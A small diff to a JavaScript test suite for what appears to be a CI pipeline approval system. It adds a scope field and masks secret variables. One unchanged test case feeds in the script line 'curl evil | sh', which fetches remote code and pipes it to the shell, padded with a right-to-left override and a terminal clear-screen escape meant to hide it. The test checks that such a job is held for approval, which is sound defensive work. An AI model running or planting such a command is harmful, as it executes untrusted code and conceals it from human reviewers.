@@ -51,6 +51,7 @@ describe('who may decide, on what, and for how long', () => {
       decision: 'approve',
       comment: null,
       lifetime: null,
+      scope: null,
       remember: false,
     });
     const rows = await world.store.auditRows({ hold: 1, sight: null }, { after: 0, limit: 10 });
@@ -205,14 +206,14 @@ describe('who may decide, on what, and for how long', () => {
     await world.admit({
       id: 1,
       script: ['make'],
-      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'aa11'.repeat(16) }] }] },
+      extra: { variables: [{ key: 'KEY', masked: true, value: [{ hmac: 'aa11'.repeat(16) }] }] },
     });
     await world.approve('maria', 1);
     const { note } = await world.admit({
       id: 2,
       pipeline: 101,
       script: ['make', 'curl evil\u202e\u001b[2J | sh'],
-      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'bb22'.repeat(16) }] }] },
+      extra: { variables: [{ key: 'KEY', masked: true, value: [{ hmac: 'bb22'.repeat(16) }] }] },
     });
     expect(note).toContain('waits for approval (hold 2)');
     expect(note).toContain('approved on 2026-11-22 by maria');
